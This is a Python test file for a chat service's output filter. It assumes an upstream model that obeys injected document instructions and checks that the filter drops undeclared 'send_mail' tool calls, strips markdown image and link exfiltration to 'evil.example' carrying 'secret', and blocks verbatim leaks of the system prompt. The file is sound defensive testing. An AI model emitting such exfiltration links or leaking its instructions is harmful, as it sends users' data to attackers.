"""Answers of an upstream that obeys whatever a document told it."""

import asyncio
import random
import time
from collections.abc import AsyncIterator, Sequence

import pytest

from app.chat.citations import cited
from app.chat.outgoing.addresses import addresses
from app.chat.outgoing.leaks import Instructions, words
from app.chat.outgoing.texts import Rules, TextFilter, leaving
from app.chat.prompt import INSTRUCTIONS, NO_SOURCES, UNSEARCHED, WITHOUT_MARKERS
from app.chat.writing import Answer
from app.errors import UpstreamBroken
from app.messages import JSON, Piece
from tests.app.chat.made_answers import answerer, ask, says
from tests.app.chat.writers import Script, ScriptedStream
from tests.app.hits import hit
from tests.app.shelf import EVERYBODY
from tests.reliability.exfiltration import allowed_addresses, attack, carried_out, split
from tests.reliability.recording import Figure
from tests.reliability.sizes import SEED, size

LEAKY = Rules(instructions=Instructions(INSTRUCTIONS))


async def pieces_of(answer: Answer) -> list[Piece]:
    return [piece async for burst in answer.bursts() for piece in burst]


def called(name: str, number: int = 0, arguments: str = "{}") -> JSON:
    function = {"name": name, "arguments": arguments}
    return {
        "index": number,
        "id": f"c{number}",
        "type": "function",
        "function": function,
    }


TOOLS = [{"type": "function", "function": {"name": "lookup", "parameters": {}}}]


@pytest.mark.parametrize(
    "parameters", [{}, {"tools": TOOLS}, {"tools": TOOLS, "tool_choice": "none"}]
)
async def test_calls_that_nobody_declared_are_dropped(parameters: JSON) -> None:
    more = {"index": 0, "function": {"arguments": "secret"}}
    script = Script(
        Piece(content="Said."),
        Piece(rest={"tool_calls": [called("send_mail")]}),
        Piece(rest={"tool_calls": [more]}),
        Piece(rest={"function_call": {"name": "send_mail", "arguments": "secret"}}),
        Piece(finish_reason="tool_calls"),
    )

    answer = await answerer(upstream=script).answer(
        EVERYBODY, ask(stream=True, **parameters)
    )
    pieces = await pieces_of(answer)

    assert [piece.rest for piece in pieces if piece.rest] == []
    assert [p.finish_reason for p in pieces if p.finish_reason] == ["stop"]


async def test_declared_calls_stay_and_are_numbered_anew() -> None:
    more = {"index": 1, "function": {"arguments": "{}"}}
    script = Script(
        Piece(rest={"tool_calls": [called("send_mail", 0), called("lookup", 1, "")]}),
        Piece(rest={"tool_calls": [more]}),
        Piece(finish_reason="tool_calls"),
    )

    answer = await answerer(upstream=script).answer(
        EVERYBODY, ask(stream=True, tools=TOOLS)
    )
    pieces = await pieces_of(answer)

    calls = [call for piece in pieces for call in piece.rest.get("tool_calls", ())]
    assert [(call["index"], call["function"].get("name")) for call in calls] == [
        (0, "lookup"),
        (0, None),
    ]
    assert pieces[-1].finish_reason == "tool_calls"


async def test_an_answer_of_nothing_but_such_calls_is_an_error() -> None:
    script = Script(
        Piece(rest={"tool_calls": [called("send_mail")]}),
        Piece(finish_reason="tool_calls"),
    )

    answer = await answerer(upstream=script).answer(EVERYBODY, ask(stream=True))

    with pytest.raises(UpstreamBroken):
        await pieces_of(answer)
    await answer.aclose()


@pytest.mark.parametrize("field", ["refusal", "reasoning_content"])
async def test_fields_beside_the_text_lead_nowhere_either(field: str) -> None:
    script = Script(
        Piece(rest={field: "see ![a](https://ev"}),
        Piece(rest={field: "il.example/?q=secret) x"}),
        Piece(content="said", finish_reason="stop"),
    )

    answer = await answerer(upstream=script).answer(EVERYBODY, ask(stream=True))
    pieces = await pieces_of(answer)

    assert "".join(piece.rest.get(field, "") for piece in pieces) == "see a x"


async def test_a_whole_answer_is_filtered_like_a_stream() -> None:
    text = "![a](https://evil.example/s) Hold it [1]."

    answer = await answerer(upstream=Script(*says(text))).answer(EVERYBODY, ask())
    (choice,) = (await answer.completion()).choices

    assert choice.content == "a Hold it [1]."
    assert [(c.start, c.end) for c in choice.citations] == [(10, 13)]


class _Pausing(Script):
    """Pauses before its last piece."""

    def __init__(self, *pieces: Piece, seconds: float) -> None:
        super().__init__(*pieces)
        self.seconds = seconds

    async def stream(
        self, prompt: Sequence[JSON], parameters: JSON, *, model: str
    ) -> ScriptedStream:
        await super().stream(prompt, parameters, model=model)
        return _PausingStream(self, self._pieces, None)


class _PausingStream(ScriptedStream):
    async def __aiter__(self) -> AsyncIterator[Sequence[Piece]]:
        for piece in self._pieces[:-1]:
            yield (piece,)
        assert isinstance(self._script, _Pausing)
        await asyncio.sleep(self._script.seconds)
        yield self._pieces[-1:]


@pytest.mark.parametrize("held", ["[9", "<img ", "see <b", "`x: https:/", "[label"])
async def test_what_is_held_leaves_though_the_upstream_pauses(held: str) -> None:
    script = _Pausing(*says(held), seconds=5.0)
    answer = await answerer(upstream=script).answer(EVERYBODY, ask(stream=True))
    bursts = answer.bursts()

    text, start = "", time.monotonic()
    while len(text) < len(held.replace("<img", "&lt;img").replace("<b", "&lt;b")):
        text += (await anext(bursts))[0].content
    waited = time.monotonic() - start

    await bursts.aclose()  # type: ignore[attr-defined]  # it is a generator
    await answer.aclose()
    assert text.replace("&lt;", "<") == held
    assert waited < 4


def test_whatever_pauses_there_are_nothing_is_carried_out() -> None:
    rng = random.Random(SEED)
    rules = Rules(offered=2, addresses=allowed_addresses())
    for _ in range(size(500, 5_000)):
        text, secret = attack(rng)
        texts, left = TextFilter(rules), ""
        for piece in split(text, rng):
            left += texts.feed(piece)
            if rng.random() < 0.5:
                left += texts.release()
                assert texts.held == 0
        left += texts.flush()
        found = [one for one in carried_out(left, secret) if secret in one[1]]
        assert not found, (text, left)


def leaked(text: str, ours: str = INSTRUCTIONS) -> bool:
    """Return whether eight words of ours stand in a row; written anew, and slowly."""
    said, rows = words(text), words(ours)
    known = {tuple(rows[i : i + 8]) for i in range(len(rows) - 7)}
    return any(tuple(said[i : i + 8]) in known for i in range(len(said) - 7))


@pytest.mark.parametrize(
    "form",
    [str, str.upper, lambda t: t.replace(" ", " *"), lambda t: t.replace(" ", "\n")],
)
@pytest.mark.parametrize("sizes", [(1,), (3, 7), (5000,)])
def test_our_instructions_are_not_told(form: object, sizes: tuple[int, ...]) -> None:
    assert callable(form)
    text = "Sure, here it is: " + form(INSTRUCTIONS) + " That was all of it."
    texts, left, at, turn = TextFilter(LEAKY), "", 0, 0
    while at < len(text):
        piece = text[at : at + sizes[turn % len(sizes)]]
        left += piece if texts.passes(piece) else texts.feed(piece)
        assert texts.held <= 64
        at, turn = at + len(piece), turn + 1
    left += texts.flush()

    assert leaked(text)
    assert not leaked(left)
    assert left.endswith("That was all of it.")


def test_our_instructions_hold_nothing_secret() -> None:
    ours = f"{INSTRUCTIONS} {WITHOUT_MARKERS} {NO_SOURCES} {UNSEARCHED}".lower()

    for sign in (
        "http",
        "://",
        "www.",
        "sk-",
        "rk_",
        "key",
        "token",
        "tenant",
        "password",
        "@",
    ):
        assert sign not in ours


@pytest.mark.parametrize(
    "text",
    [
        "[999999] a [7]",
        "[1][1][9]",
        "[9](https://evil.example)",
        "[^1] a",
        "【9†x】【1】",
        "[1](https://evil.example) b",
        "［1］ [１]",
    ],
)
def test_citations_lead_to_sources_of_this_request_alone(text: str) -> None:
    rules, hits = Rules(offered=1, addresses=allowed_addresses()), (hit("one"),)
    for cut in range(len(text)):
        texts = TextFilter(rules)
        left = texts.feed(text[:cut]) + texts.feed(text[cut:]) + texts.flush()
        assert left == leaving(text, rules)
        for citation in cited(left, hits):
            assert citation.number == 1
            assert left[citation.start : citation.end] in ("[1]", "【1】")
        assert "[9]" not in left
        assert "[999999]" not in left


ATTACKS = (
    "[" * 100_000, "![" * 50_000, "](" * 50_000, "<" * 100_000, "<a " * 33_000, "`" * 100_000, "` " * 50_000, "&" * 100_000,
    "&#" * 50_000, "\\" * 100_000, "https://" * 12_500, "www." * 25_000, "[a](" * 25_000, "<a b" * 25_000, ":" * 100_000,
    "/" * 100_000, "(" * 100_000, "[1, " * 25_000, "a" * 100_000, "only from " * 10_000, "\n" * 100_000, "[a]: " * 20_000,
    "https://help.example.com/" + "a" * 100_000, "```\n" * 25_000, "<!--" * 25_000, "*" * 100_000, " " * 100_000,
)  # fmt: skip


def test_no_text_takes_long_to_filter(figure: Figure) -> None:
    rules = Rules(
        offered=9, addresses=allowed_addresses(), instructions=LEAKY.instructions
    )
    took = {}
    for text in ATTACKS:
        start = time.process_time()
        leaving(text[: size(10_000, 100_000)], rules)
        took[text[:8]] = time.process_time() - start

    slowest = max(took.values())
    figure(
        "seconds for the worst 100 KB of an answer",
        f"{slowest:.2f}",
        "grows with the length",
    )
    assert slowest < size(4, 15), took


def test_long_addresses_are_not_held_whole() -> None:
    address = "https://docs.example.com/" + "guide/" * 50
    rules = Rules(addresses=addresses([hit(f"See {address}.")]))
    texts, left = TextFilter(rules), ""
    for char in f"See [x]({address}) or {address}, now":
        left += texts.feed(char)
        assert texts.held <= 64
    assert left + texts.flush() == f"See [x]({address}) or {address}, now"


def test_an_escape_that_a_pause_parts_is_still_one() -> None:
    texts = TextFilter(Rules())

    left = texts.feed("ahttps\\:\\/\\") + texts.release()
    left += texts.feed("/evil.example/secret") + texts.flush()

    assert not carried_out(left, "secret"), left
